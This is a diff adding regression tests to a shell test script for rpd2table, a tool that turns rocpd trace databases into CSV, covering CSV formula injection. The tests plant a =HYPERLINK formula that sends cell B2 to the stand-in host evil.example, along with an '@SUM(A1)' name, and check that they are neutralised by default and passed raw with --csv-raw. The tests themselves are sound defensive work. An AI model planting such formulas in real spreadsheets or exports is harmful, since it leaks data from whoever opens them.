@@ -37,6 +37,20 @@ check_eq "no marker: the whole trace, marker_name empty" ",0,add,1,3,300,100.0,1
   "$(grep '^,0,add' all.csv)"
 check_eq "no marker: op time sum" "1133" \
   "$(python3 -c 'import csv; print(sum(int(r["total_dur"]) for r in csv.DictReader(open("all.csv"))))')"
+# CSV formula injection: a marker or kernel name a spreadsheet would run
+# gets a leading '; numbers stay as they are;
+# --csv-raw writes the names as they are
+cp t.rpd f.rpd
+sqlite3 f.rpd "UPDATE rocpd_string SET string = '=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"click\")' WHERE id = 9005;
+  UPDATE rocpd_ustring SET string = '@SUM(A1)' WHERE id = 9102"
+rpd2table f.rpd "@SUM(A1)" step - >f.csv 2>/dev/null
+check_eq "formula: marker and kernel names neutralised" \
+  "'@SUM(A1),1,\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"click\"\")\",1,1,33,33.0,33,33,100.0" \
+  "$(grep '^.@SUM' f.csv)"
+rpd2table --csv-raw f.rpd "@SUM(A1)" step - >fr.csv 2>/dev/null
+check_eq "formula: --csv-raw as they are" \
+  "@SUM(A1),1,\"=HYPERLINK(\"\"http://evil.example/?leak=\"\"&B2,\"\"click\"\")\",1,1,33,33.0,33,33,100.0" \
+  "$(grep '^@SUM' fr.csv)"
 check_rc "unknown marker: header only" 0 rpd2table t.rpd nosuch -
 check_eq "unknown marker: 1 line" "1" "$(wc -l <"$TESTDIR/stdout")"
 check_rc "one argument: usage error" 2 rpd2table t.rpd
